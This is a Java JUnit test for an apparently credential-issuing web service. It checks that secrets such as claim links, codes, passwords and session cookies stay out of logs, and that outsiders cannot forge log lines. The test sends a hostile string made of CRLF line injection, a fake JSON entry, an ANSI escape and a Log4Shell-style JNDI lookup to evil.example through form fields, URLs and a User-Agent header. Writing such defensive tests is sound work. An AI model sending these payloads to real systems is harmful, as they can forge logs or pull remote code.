package org.stapel.issuer.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.stapel.credential.encoding.StrictJson;
import org.stapel.issuer.Browser;
import org.stapel.issuer.Engine;
import org.stapel.issuer.RunningIssuer;
import org.stapel.service.account.Role;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/// Links, codes and passwords do not stand in the log, and nobody writes a line into it.
@ExtendWith(OutputCaptureExtension.class)
class SecretsInLogsTest {
    private static final String FORGED =
            "x\r\n{\"level\":\"FORGED\"}\u001b[31m${jndi:ldap://evil.example/FORGED}";

    private final List<String> secrets = new ArrayList<>();

    private void shared(RunningIssuer issuer, RunningIssuer.Client registrar) {
        var taken = registrar.post(Scene.AWARDS, Engine.m01("LOG-1"));
        String link = Scene.AWARDS + "/" + taken.json().at("/award/id").asString() + "/claim-link";
        String claim = registrar.post(link, "").json().path("url").asString();
        var learner = new Browser("en", issuer.origin());
        learner.submit(claim, "answer", "1971-02-03");
        learner.submit(claim, "answer", "1989-03-01");
        var page = new Browser.Page(learner.submit(claim + "/shares", "lasting", "DAY"));
        String show = page.parsed().select("details[open] input[readonly]").attr("value");
        String code = page.parsed().select("details[open] summary .code").text();
        issuer.nobody().get(show);
        issuer.nobody().submit(issuer.origin() + "/show", "code", code);
        issuer.nobody().get(show + "x");
        issuer.nobody().get(claim + "/nothing");
        learner.cookies().forEach(cookie -> secrets.add(cookie.getValue()));
        secrets.addAll(List.of(last(claim), last(show), code, "1971-02-03", "Voorbeeld-Ooievaar"));
    }

    private static String last(String address) {
        return address.substring(address.lastIndexOf('/') + 1);
    }

    private void signedIn(RunningIssuer issuer) {
        var person = issuer.person("zilverbeek", Role.REGISTRAR);
        person.cookies().forEach(cookie -> secrets.add(cookie.getValue()));
        var form = issuer.nobody().get("/sign-in");
        issuer.nobody().submit(form, "/sign-in", Map.of("email", FORGED, "password", "geheim-77"));
        person.get("/console/zilverbeek?q=geheim-77");
        secrets.addAll(List.of(RunningIssuer.PASSWORD, "geheim-77"));
    }

    private static void forged(RunningIssuer issuer, RunningIssuer.Client registrar) {
        registrar.post(Scene.AWARDS, Engine.m01(FORGED));
        registrar.post(Scene.AWARDS, Engine.m01("LOG-2").put(FORGED, FORGED));
        registrar.post(Scene.AWARDS, Engine.m01("LOG-3").put("kind", FORGED));
        registrar.get(Scene.AWARDS + "?kind=x%0d%0aFORGED&limit=%0aFORGED");
        issuer.get("/claim/x%0d%0aFORGED");
        issuer.get("/show/x%0aFORGED", "User-Agent", "${jndi:ldap://evil.example/FORGED}");
    }

    @Test
    void no_secret_and_no_line_of_a_stranger_is_in_it(@TempDir Path data, CapturedOutput output) {
        try (var issuer = new RunningIssuer(data)) {
            issuer.installationAdministrator()
                    .post("/api/institutions", Engine.fixture("zilverbeek.json"));
            var registrar = issuer.with("zilverbeek", Role.REGISTRAR);
            secrets.add(registrar.token());
            shared(issuer, registrar);
            signedIn(issuer);
            forged(issuer, registrar);
        }
        assertThat(secrets).hasSizeGreaterThan(8).allMatch(secret -> secret.length() > 8);
        assertThat(output.getAll()).doesNotContain(secrets);
        assertThat(output.getOut().lines())
                .filteredOn(line -> line.contains("FORGED") || line.contains("jndi"))
                .allSatisfy(line -> assertThat(StrictJson.parse(line).has("@timestamp")).isTrue());
        assertThat(output.getAll()).doesNotContain("\u001b[31m");
    }
}
